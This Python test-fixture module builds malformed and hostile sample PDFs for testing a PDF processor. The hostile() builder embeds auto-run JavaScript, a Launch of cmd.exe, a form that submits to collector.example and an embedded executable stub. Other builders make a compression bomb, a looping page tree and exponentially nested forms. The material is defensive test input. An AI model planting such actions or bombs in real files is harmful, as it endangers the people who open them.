"""Foreign PDFs in small: plain, hostile, damaged, locked."""

import io
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def plain(pages: int = 2, *, rotate: int = 0, box: tuple[float, ...] = (0, 0, 595, 842)) -> pikepdf.Pdf:
    """A PDF that says "Foreign page n" on each page."""
    pdf = pikepdf.Pdf.new()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.MediaBox = Array(list(box))
        page.Rotate = rotate
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 20 Tf 72 700 Td (Foreign page {number}) Tj ET".encode())
    return pdf


def saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def locked() -> bytes:
    return saved(plain(), encryption=pikepdf.Encryption(user="secret", owner="secret"))


def locked_for_owner() -> bytes:
    return saved(plain(), encryption=pikepdf.Encryption(user="", owner="secret"))


def hostile() -> bytes:
    """A script at opening, a launch, a remote go-to, a form that submits, a file inside; and two honest links."""
    pdf = plain(3)
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script)
    pdf.pages[0].obj.AA = Dictionary(O=script)
    pdf.attachments["run.exe"] = b"MZ"
    actions = [
        Dictionary(S=Name.Launch, F=String("cmd.exe")),
        Dictionary(S=Name.GoToR, F=String("//far/away.pdf"), D=Array([0, Name.Fit])),
        Dictionary(S=Name.SubmitForm, F=String("http://collector.example/")),
        Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
        Dictionary(S=Name.URI, URI=String("https://www.example.org/"), Next=script),
        Dictionary(S=Name.GoTo, D=Array([pdf.pages[2].obj, Name.Fit])),
    ]
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 690, 300, 720]), A=action)
            )
            for action in actions
        ]
    )
    return saved(pdf)


def looping() -> bytes:
    """A page tree whose kid is its own parent."""
    return (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Kids[2 0 R]/Count 1>>\nendobj\n"
        b"trailer\n<</Root 1 0 R/Size 3>>\n%%EOF\n"
    )


def bomb() -> bytes:
    """Four hundred megabytes of nothing in one page's content, in half a megabyte."""
    pdf = plain(1)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(400)) + packer.flush()
    content = pikepdf.Stream(pdf, b"")
    content.write(packed, filter=Name.FlateDecode)
    pdf.pages[0].Contents = pdf.make_indirect(content)
    return saved(pdf, recompress_flate=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def giant_picture() -> bytes:
    pdf = plain(1)
    picture = pikepdf.Stream(pdf, zlib.compress(b"\x00"))
    picture.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000,
        ColorSpace=Name.DeviceGray, BitsPerComponent=8, Filter=Name.FlateDecode,
    )  # fmt: skip
    pdf.pages[0].Resources.XObject = Dictionary(Im=pdf.make_indirect(picture))
    return saved(pdf)


def nested_forms() -> bytes:
    """Forms that draw one another ten times each, thirty deep: short to write, endless to draw."""
    pdf = plain(1)
    inner = None
    for _ in range(30):
        form = pdf.make_stream(b"/F Do " * 10 if inner is not None else b"0 0 1 1 re f")
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 600, 900])
        if inner is not None:
            form.Resources = Dictionary(XObject=Dictionary(F=inner))
        inner = form
    pdf.pages[0].Resources.XObject = Dictionary(F=inner)
    pdf.pages[0].Contents = pdf.make_stream(b"/F Do")
    return saved(pdf)


def too_many_pages() -> bytes:
    return saved(plain(1_001))
